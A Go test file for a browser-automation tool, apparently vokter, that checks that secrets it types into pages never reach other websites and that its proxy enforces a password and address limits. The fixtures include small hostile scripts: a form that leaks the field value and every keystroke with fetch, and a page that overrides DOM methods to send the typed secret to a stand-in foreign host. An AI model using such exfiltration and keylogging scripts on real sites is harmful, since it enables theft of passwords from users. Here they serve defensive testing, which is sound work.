package browser

import (
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/vokter/vokter/pipeline"
	"github.com/vokter/vokter/pipeline/registry"
)

// stranger is a website that keeps all that it is sent.
type stranger struct {
	*website
	mu   sync.Mutex
	sent string
}

func newStranger(t *testing.T, page string) *stranger {
	t.Helper()
	s := &stranger{}
	s.website = newWebsite(t, func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		s.mu.Lock()
		s.sent += r.URL.String() + " " + string(body) + "\n"
		s.mu.Unlock()
		io.WriteString(w, page)
	})
	return s
}

func (s *stranger) got() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.sent
}

// tellingForm is a page that sends what its field has to its own server, as soon as it has something.
const tellingForm = `<form method="post"><input name="pass" autofocus></form><script>
	const f = document.querySelector("input"); f.focus()
	setInterval(() => { if (f.value) fetch("/leak?" + f.value) }, 20); addEventListener("keydown", e => fetch("/key?" + e.key))</script>`

// TestFillStaysAtHome: what fill types reaches no other website, wherever the page leads.
func TestFillStaysAtHome(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		page     string // STRANGER stands for another website
		redirect bool
		fails    bool
	}{
		"a redirect":                 {redirect: true, fails: true},
		"the focus goes to a frame":  {page: `<iframe src="STRANGER"></iframe><input name="pass" onfocus="frames[0].focus(); document.querySelector('iframe').focus()">`},
		"a page that changes itself": {page: `<iframe src="STRANGER"></iframe><input name="pass"><script>HTMLElement.prototype.focus = HTMLElement.prototype.matches = () => true; Array.prototype.some = () => true; document.execCommand = (_, __, v) => fetch("STRANGER?" + v)</script>`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			other := newStranger(t, tellingForm)
			s := newWebsite(t, func(w http.ResponseWriter, r *http.Request) {
				if c.redirect {
					http.Redirect(w, r, other.URL, http.StatusFound)
					return
				}
				io.WriteString(w, strings.ReplaceAll(c.page, "STRANGER", other.URL))
			})
			steps := []Step{{Fill: &Fill{"input[name=pass]", registry.NewSecret("tops3cret")}}, {Scroll: 1}}
			_, err := fetchText(t, s.fetcher(t, Page{Mode: Rendered, Steps: steps}, nil), s.URL+"/")
			if c.fails != (classOfError(err) == pipeline.FailLogin) || !c.fails && err != nil {
				t.Errorf("got %v", err)
			}
			if c.fails && (err == nil || !strings.Contains(err.Error(), "step 1 (fill input[name=pass]) types nothing, since the page has led to "+other.URL)) {
				t.Errorf("got %v", err)
			}
			if got := other.got(); got == "" || strings.Contains(got, "key?t") || strings.Contains(got, "s3cret") {
				t.Errorf("the other website got %q", got)
			}
		})
	}
}

// TestErrorPages: what a browser or a server shows in place of a page is a failed check, also where a script has led
// there.
func TestErrorPages(t *testing.T) {
	t.Parallel()
	closed := httptest.NewServer(http.NotFoundHandler())
	closed.Close()
	secure := httptest.NewTLSServer(http.NotFoundHandler())
	t.Cleanup(secure.Close)
	broken := newWebsite(t, func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusInternalServerError)
		io.WriteString(w, "<p>broken")
	})
	for name, c := range map[string]struct{ to, want string }{
		"nobody listens":    {closed.URL, pipeline.FailNetwork},
		"a bad certificate": {secure.URL, pipeline.FailTLS},
		"an error":          {broken.URL, pipeline.FailStatus},
		"a refused address": {"http://127.0.0.9:8080/", pipeline.FailAddress},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newWebsite(t, func(w http.ResponseWriter, _ *http.Request) {
				io.WriteString(w, `<p>words</p><script>setTimeout(() => { location = "`+c.to+`" }, 100)</script>`)
			})
			body, err := fetchText(t, s.fetcher(t, Page{Mode: Rendered}, nil), s.URL+"/")
			if classOfError(err) != c.want {
				t.Errorf("got %v, %q", err, body)
			}
		})
	}
}

// TestPasswordOfProxy: the proxy of a page serves nobody else, and no website learns its password.
func TestPasswordOfProxy(t *testing.T) {
	t.Parallel()
	var seen http.Header
	s := newWebsite(t, func(w http.ResponseWriter, r *http.Request) {
		seen = r.Header
		w.Header().Set("WWW-Authenticate", `Basic realm="vokter"`)
		w.WriteHeader(http.StatusUnauthorized)
	})
	p, err := newProxy(t.Context(), loopback, func(error) {})
	if err != nil {
		t.Fatal(err)
	}
	defer p.close()
	p.enter(t.Context(), "127.0.0.1")
	for password, want := range map[string]int{"": http.StatusProxyAuthRequired, "wrong": http.StatusProxyAuthRequired, p.password: http.StatusUnauthorized} {
		through := &http.Transport{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: p.addr, User: url.UserPassword(proxyUser, password)})}
		defer through.CloseIdleConnections()
		r, err := http.NewRequestWithContext(t.Context(), http.MethodGet, s.URL, nil)
		if err != nil {
			t.Fatal(err)
		}
		resp, err := through.RoundTrip(r)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want || seen.Get("Proxy-Authorization") != "" {
			t.Errorf("with the password %q: got %s, and the website got %v", password, resp.Status, seen)
		}
	}
	if conn, err := net.Dial("tcp", p.addr); err != nil {
		t.Error(err)
	} else {
		io.WriteString(conn, "CONNECT "+strings.TrimPrefix(s.URL, "http://")+" HTTP/1.1\r\nHost: x\r\n\r\n")
		answer := make([]byte, 12)
		io.ReadFull(conn, answer)
		if string(answer) != "HTTP/1.1 407" {
			t.Errorf("a tunnel without password: got %s", answer)
		}
		conn.Close()
	}
	_, err = fetchText(t, s.fetcher(t, Page{Mode: Rendered}, nil), s.URL+"/")
	if classOfError(err) != pipeline.FailStatus || seen.Get("Authorization") != "" {
		t.Errorf("got %v, and the website got %v", err, seen)
	}
}

var loopback = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}

// addressConn is a connection to addr.
type addressConn struct {
	net.Conn
	addr string
}

func (c addressConn) RemoteAddr() net.Addr {
	return net.TCPAddrFromAddrPort(netip.MustParseAddrPort(c.addr))
}

// TestInside: a page reaches networks of allow while it lies in one, and not any more once it was elsewhere.
func TestInside(t *testing.T) {
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "inside") }))
	defer s.Close()
	ctx := t.Context()
	reach := func(p *proxy) (err error) {
		t.Helper()
		r, err := http.NewRequestWithContext(ctx, http.MethodPost, s.URL, nil)
		if err != nil {
			t.Fatal(err)
		}
		resp, err := p.do(r)
		if err == nil {
			resp.Body.Close()
		}
		conn, tunnel := p.dial(ctx, strings.TrimPrefix(s.URL, "http://"))
		if tunnel == nil {
			conn.Close()
		}
		if (err == nil) != (tunnel == nil) {
			t.Errorf("a request gets %v, a tunnel %v", err, tunnel)
		}
		return err
	}
	p, err := newProxy(ctx, loopback, func(error) {})
	if err != nil {
		t.Fatal(err)
	}
	defer p.close()
	if err := reach(p); !errors.Is(err, errOutside) {
		t.Errorf("before the page is anywhere: %v", err)
	}
	p.enter(ctx, "localhost")
	if err := reach(p); err != nil {
		t.Errorf("from within: %v", err)
	}
	_, check := p.routeTo("localhost")
	if err := check(addressConn{addr: "127.0.0.1:80"}); err != nil {
		t.Errorf("its own host: %v", err)
	}
	if err := check(addressConn{addr: "1.1.1.1:80"}); !errors.Is(err, errMoved) {
		t.Errorf("its own host at another address: %v", err)
	}
	here, there := net.Pipe()
	defer there.Close()
	p.addTunnel(here)
	p.enter(ctx, "1.1.1.1")
	if err := reach(p); !errors.Is(err, errOutside) {
		t.Errorf("from outside: %v", err)
	}
	if _, err := here.Write(nil); !errors.Is(err, io.ErrClosedPipe) {
		t.Errorf("a tunnel from before stays open: %v", err)
	}
	p.enter(ctx, "127.0.0.1")
	if err := reach(p); !errors.Is(err, errOutside) {
		t.Errorf("back within: %v", err)
	}
}
